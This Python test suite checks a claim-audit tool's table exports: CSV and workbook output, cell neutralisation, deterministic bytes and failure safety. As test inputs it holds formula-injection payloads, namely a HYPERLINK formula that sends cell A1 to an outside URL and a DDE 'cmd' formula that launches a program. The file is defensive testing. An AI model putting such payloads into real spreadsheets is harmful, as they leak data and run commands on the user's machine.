"""Tables that leave an audit: nothing is lost, and nothing in them can run."""

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claimaudit import cli
from claimaudit.audit import Audit
from claimaudit.report import export
from claimaudit.views import tables
from claimaudit.views.files import FILES, FOLDER, workbook
from small_audit import SLUG, edit_row, write_small_audit

HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"click")'
NAMES = ("claims", "findings", "matches", "verdicts", "ledger", "status")


@pytest.fixture
def audit(tmp_path) -> Audit:
    write_small_audit(tmp_path)
    edit_row(tmp_path / "data" / SLUG / "claims.csv", 2, statement=HOSTILE)
    return Audit.open(SLUG, tmp_path)


def read_csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "-"),
        *("=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+49 30 1", "-31 min", "--1", "-1.5.2"),
    ],
)
def test_a_cell_that_a_spreadsheet_could_run_is_prefixed(cell):
    assert export.inert(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "tea", "a=b", "-0.5", "+4", "-1e-3", "12", "5 - 6", "'=1"])
def test_harmless_cells_and_plain_numbers_stay(cell):
    assert export.inert(cell) == cell


@given(st.text())
def test_prefixing_loses_nothing_and_never_leaves_a_formula(cell):
    kept = export.inert(cell)
    assert kept in (cell, f"'{cell}")
    if kept.startswith(("=", "@")):
        pytest.fail(f"{kept!r} would run")


ROWS = st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5)


@given(ROWS)
def test_csv_holds_any_text_one_record_a_row(texts):
    rows = [dict.fromkeys(export.COLUMNS["claims"], "") | {"statement": text} for text in texts]
    read = read_csv(export.as_csv("claims", rows))
    assert [row["statement"] for row in read] == [export.inert(text) for text in texts]


def test_a_hostile_statement_is_prefixed_in_csv_and_raw_in_the_table_and_in_json(audit, capsys):
    rows = export.records(audit, "claims")
    assert rows[2]["statement"] == HOSTILE
    assert read_csv(export.as_csv("claims", rows))[2]["statement"] == f"'{HOSTILE}"
    raw = (audit.data / "claims.csv").read_text("utf-8")
    assert next(csv.reader([raw.splitlines()[3]]))[4] == HOSTILE


def test_the_csv_of_a_command_is_prefixed_too(audit, capsys, monkeypatch):
    monkeypatch.chdir(audit.root)
    assert cli.main(["claims", "--format", "csv"]) == 0
    assert read_csv(capsys.readouterr().out)[2]["statement"] == f"'{HOSTILE}"


def test_csv_of_the_ledger_has_a_column_for_each_part_of_both_sides(audit):
    rows = read_csv(export.as_csv("ledger", export.records(audit, "ledger")))
    row = next(row for row in rows if row["pair_id"] == "opposite:C03+F002")
    assert (row["left_id"], row["right_id"], row["right_citekey"]) == ("C03", "F002", "night2019")
    promise = next(row for row in rows if row["kind"] == "unkept promise")
    assert promise["right_id"] == ""


def test_csv_joins_lists_with_semicolons(audit):
    rows = read_csv(export.as_csv("verdicts", export.records(audit, "verdicts")))
    assert rows[4]["for"] == "F002; F003"


def test_an_empty_table_still_has_its_header():
    assert read_csv(export.as_csv("ledger", [])) == []
    assert export.as_csv("verdicts", []).startswith('"claim_id","exact"')
    assert export.as_json([]) == "[]\n"


def test_export_writes_each_table_and_one_workbook(audit):
    written = export.export(audit)
    folder = audit.root / "reports" / SLUG / "tables"
    tables = {*(f"{name}.csv" for name in NAMES), f"{SLUG}.xlsx"}
    assert {path.name for path in written} == tables | {
        *("references.bib", "references.ris", "references.json")
    }
    assert sorted(written) == sorted(folder.iterdir()), "and nothing else"
    read = read_csv((folder / "findings.csv").read_text("utf-8"))
    assert read[1]["estimate"] == "'-31 min (95% CI -44 to -18), actigraphy"


def test_pandas_reads_every_csv_file_back(audit):
    import pandas as pd

    folder = export.export(audit)[0].parent
    for name in NAMES:
        read = pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False)
        assert list(read.columns) == export.flat_columns(name)
        rows = export.flat_rows(name, export.records(audit, name))
        assert read.to_numpy().tolist() == [[export.inert(cell) for cell in row] for row in rows]


def test_the_same_audit_gives_the_same_bytes(audit):
    before = {path: path.read_bytes() for path in export.export(audit)}
    again = export.export(Audit.open(SLUG, audit.root))
    assert {path: path.read_bytes() for path in again} == before


def test_every_cell_of_the_workbook_is_text(audit):
    import openpyxl

    *_, path = export.export(audit)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == list(NAMES)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    header = [cell.value for cell in book["claims"][1]]
    assert book["claims"].cell(4, header.index("statement") + 1).value == HOSTILE
    assert b"<f>" not in zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("cell", ["#N/A", "=1+1", "2024-05-31", "1e5", "TRUE", "007"])
def test_the_workbook_reads_no_meaning_into_a_cell(cell):
    import openpyxl

    row = dict.fromkeys(export.COLUMNS["matches"], "") | {"rationale": cell}
    book = openpyxl.load_workbook(io.BytesIO(export.as_xlsx({"matches": [row]})))
    read = book["matches"].cell(2, export.COLUMNS["matches"].index("rationale") + 1)
    assert (read.value, read.data_type) == (cell, "s")


def test_the_workbook_takes_cells_that_its_format_cannot_hold():
    import openpyxl

    texts = ["a\x00\x1bb\ufffe\uffff", "x" * 40000]
    rows = [dict.fromkeys(export.COLUMNS["matches"], "") | {"claim_id": text} for text in texts]
    sheet = openpyxl.load_workbook(io.BytesIO(export.as_xlsx({"matches": rows})))["matches"]
    assert sheet["A2"].value == "a��b��"
    assert len(sheet["A3"].value) == 32767
    assert "the CSV file has all of it" in sheet["A3"].value


def test_no_clock_gets_into_the_workbook(audit):
    tables = {name: export.records(audit, name) for name in NAMES}
    made = export.as_xlsx(tables, date(2024, 5, 31))
    assert made == export.as_xlsx(tables, date(2024, 5, 31))
    archive = zipfile.ZipFile(io.BytesIO(made))
    assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert archive.read("docProps/core.xml").count(b"2024-05-31T00:00:00Z") == 2


def test_an_export_that_fails_leaves_the_last_one_as_it_was(audit, monkeypatch):
    before = {path: path.read_bytes() for path in export.export(audit)}

    def fails(*_):
        raise OSError("no")

    monkeypatch.setattr(export, "as_xlsx", fails)
    monkeypatch.setattr(export, "as_csv", lambda *_: "changed")
    with pytest.raises(OSError, match="no"):
        export.export(audit)
    assert {path: path.read_bytes() for path in before} == before


CELLS = st.text(max_size=60)


@given(st.lists(st.tuples(CELLS, CELLS, CELLS), max_size=4), st.integers(40, 120))
def test_lines_fit_and_hold_no_control_character(rows, width):
    text = export.as_lines(("id", "kind", "claim"), rows, width)
    lines = text.splitlines()
    assert all(len(line) <= width for line in lines)
    assert all(line.isprintable() for line in lines)


def test_lines_hold_every_word():
    statement = "People with heart disease should ask a doctor before they drink strong tea."
    text = export.as_lines(("id", "claim"), [("C01", statement)], 40)
    assert [word for word in text.split() if word in statement.split()] == statement.split()


def test_what_a_report_says_lies_beside_it_is_what_an_export_writes(audit, tmp_path):
    written = {path.name for path in export.export(audit, tmp_path)}
    assert written == {*FILES, workbook(audit.slug)}
    links = re.findall(r'href="([^"]+)"', tables.show(audit, "exported_files").source)
    default = f"../reports/{audit.slug}/{FOLDER}"
    assert {f"{default}/{name}" for name in written} == set(links)
